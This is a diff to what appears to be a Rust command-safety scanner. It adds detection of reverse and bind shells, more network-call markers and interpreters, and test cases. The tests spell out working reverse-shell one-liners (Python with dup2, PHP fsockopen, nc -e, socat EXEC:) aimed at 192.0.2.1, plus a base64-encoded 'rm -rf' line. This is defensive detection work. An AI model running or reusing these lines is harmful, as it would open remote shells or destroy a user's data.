@@ -495,6 +495,25 @@ fn network(cmd: &SimpleCommand, line: &str, facts: &mut LineFacts, a: &mut Comma
             facts.fetch_in_sub = true;
         }
     }
+    // `nc -e /bin/sh host port`, `socat TCP:host:port EXEC:/bin/bash`.
+    let hands_out_a_program = match prog {
+        "nc" | "ncat" | "netcat" => has_flag(
+            cmd.args(),
+            &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"],
+        ),
+        "socat" => cmd.args().iter().any(|x| {
+            let x = x.to_ascii_lowercase();
+            x.starts_with("exec:") || x.starts_with("system:")
+        }),
+        _ => false,
+    };
+    if hands_out_a_program {
+        a.findings.push(Finding::new(
+            detector::DESTRUCTIVE_COMMAND,
+            Severity::Critical,
+            "The command runs a program on a network connection: a reverse (or bind) shell.",
+        ));
+    }
     if cmd
         .redirects
         .iter()
@@ -514,6 +533,10 @@ const INLINE_NET_CALLS: &[&str] = &[
     "urllib",
     "requests.",
     "socket",
+    "Socket",
+    "fsockopen",
+    "require('net')",
+    "require(\"net\")",
     "http.client",
     "fetch(",
     "https.get",
@@ -546,8 +569,9 @@ fn inline_code_hidden(cmd: &SimpleCommand, a: &mut CommandAnalysis) {
 fn inline_code_network(cmd: &SimpleCommand, facts: &mut LineFacts, a: &mut CommandAnalysis) {
     if !matches!(
         cmd.program(),
-        "python" | "python3" | "node" | "perl" | "ruby"
-    ) {
+        "python" | "python3" | "node" | "nodejs" | "deno" | "bun" | "perl" | "ruby" | "php" | "lua"
+    ) && !cmd.program().starts_with("python3.")
+    {
         return;
     }
     let code = cmd.args().join(" ");
@@ -559,6 +583,16 @@ fn inline_code_network(cmd: &SimpleCommand, facts: &mut LineFacts, a: &mut Comma
             host: h,
             sends: true,
         });
+    }
+    // A connection plus a shell that runs what arrives on it (a shell
+    // started with no command, a command read at run time, file
+    // descriptors handed to the socket): a reverse shell.
+    if cmd.code.bare_shell || cmd.code.unresolved || code.contains("dup2") {
+        a.findings.push(Finding::new(
+            detector::DESTRUCTIVE_COMMAND,
+            Severity::Critical,
+            "Inline code connects to the network and runs a shell on the connection: a reverse shell.",
+        ));
     }
     if code.contains("environ") || code.contains("process.env") || code.contains("ENV[") {
         a.findings.push(Finding::new(
@@ -1467,6 +1501,11 @@ SH",
             r#"perl -MMIME::Base64 -e 'eval decode_base64("c3lzdGVtKCJybSAtcmYgfi8iKQ==")'"#,
             r#"python3 -c "import os; os.system(bytes.fromhex('6c73').decode())""#,
             r#"python3 -c "import os, sys; os.system(sys.argv[1])""#,
+            // reverse shells
+            r#"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",9));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'"#,
+            r#"php -r '$s=fsockopen("192.0.2.1",9);exec("/bin/sh -i <&3 >&3 2>&3");'"#,
+            "nc -e /bin/sh 192.0.2.1 9",
+            "socat TCP:192.0.2.1:9 EXEC:/bin/bash",
         ];
         for line in held {
             assert!(top(line) >= Some(Severity::High), "{line}: {:?}", top(line));
@@ -1482,6 +1521,8 @@ print(json.load(open('package.json'))['name'])
 EOF",
             r#"node -e "console.log(Buffer.from('aGVsbG8=', 'base64').toString())""#,
             r#"python3 -c "import platform; print(platform.system())""#,
+            r#"python3 -c "import socket; print(socket.gethostname())""#,
+            "nc -zv localhost 5432",
             "bash <<'SH'
 cargo fmt --check
 cargo test -q
